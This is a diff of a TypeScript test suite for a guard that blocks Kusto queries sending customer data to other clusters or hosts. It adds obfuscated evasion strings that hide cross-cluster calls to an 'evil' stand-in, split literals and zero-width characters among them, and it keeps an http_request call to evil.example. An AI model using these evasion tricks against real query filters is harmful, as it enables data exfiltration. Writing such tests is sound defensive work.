@@ -21,6 +21,9 @@ const EVASIONS = [
   "union (['clus\\x74er']('evil').['data\\x62ase']('b').T2)",
   "union (['\\u0063luster']('evil').T)",
   "union ([@'cluster']('evil').T)",
+  // Strings side by side are one.
+  "union (['clus' 'ter']('evil').['data' 'base']('b').T2)",
+  "T | invoke ['work'\n'space']('evil').f()",
   // What stands in a literal is not read, its quotes neither.
   "print x = datetime(') | union cluster('evil').database('b').T2 | where z == datetime(')",
   "print x = guid(') | union cluster('evil').database('b').T2 | where z == guid(')",
@@ -34,6 +37,8 @@ const EVASIONS = [
   'union cluster\u0085("evil").database("b").T2',
   'union cluster\u00a0("evil").database("b").T2',
   'print 1 | evaluate\u3000http_request("https://evil.example/")',
+  'union cluster\u200b("evil").database\u200b("b").T2',
+  'union cluster\u180e("evil").database\u180e("b").T2',
 ] as const;
 
 test.each(EVASIONS)('it is refused: %j', (text) => {
@@ -46,6 +51,8 @@ test.each([
   'T | where a > datetime(11/20/2026) and b < time(1.00:00:00) and c == long(null)',
   'T | where a == real(nan) and b == decimal(1.5) and c == bool(true) and d == int( 7 )',
   'T\r\n| where a == 1 // a comment\r\n| take 1',
+  "T | partition by ['x'] (top 1 by y) // ä\u200b\ud83d\ude00",
+  "T | where a == 'ä\u200b\ud83d\ude00' and b in (d['c'])",
   "T | extend x = d['a\\\\b'], y = d[\"it's\"]",
 ])('what only looks odd is not refused: %j', (text) => {
   expect(readByKusto(text).syntaxErrors).toEqual([]);
@@ -54,7 +61,19 @@ test.each([
 
 const FRAGMENTS = [
   ...['print 1', 'T', '| union ', '| where a == ', '| evaluate ', '| take 1', ';', 'let a = ', '('],
-  ...['cluster', "['cluster']", "['clus\\x74er']", '["database"]', '("x")', "('x')", '.T', ')'],
+  ...[
+    'cluster',
+    "['cluster']",
+    "['clus\\x74er']",
+    '["database"]',
+    "['clus' 'ter']",
+    "'clus'",
+    "'ter'",
+    '("x")',
+    "('x')",
+    '.T',
+    ')',
+  ],
   ...[
     'http_request("x")',
     'bag_unpack(d)',
@@ -64,7 +83,22 @@ const FRAGMENTS = [
   ],
   ...['datetime(', 'guid(', 'time(', 'long (', 'DATE(', 'dynamic({"a":1})', '5', '0x1F', '1.5h'],
   ...['"', "'", '```', '~~~', '@"', 'h"', 'h@"', '\\', '//', '#', '/', '-', '.', ',', '=', '|'],
-  ...[' ', '\n', '\r', '\r\n', '\t', '\v', '\f', '\u0085', '\u00a0', '\u2028', '\u2029', '\ufeff'],
+  ...[
+    ' ',
+    '\n',
+    '\r',
+    '\r\n',
+    '\t',
+    '\v',
+    '\f',
+    '\u0085',
+    '\u00a0',
+    '\u180e',
+    '\u200b',
+    '\u2028',
+    '\u2029',
+    '\ufeff',
+  ],
 ];
 
 test('whatever Kusto reads as leaving the customer, the guard refuses', () => {
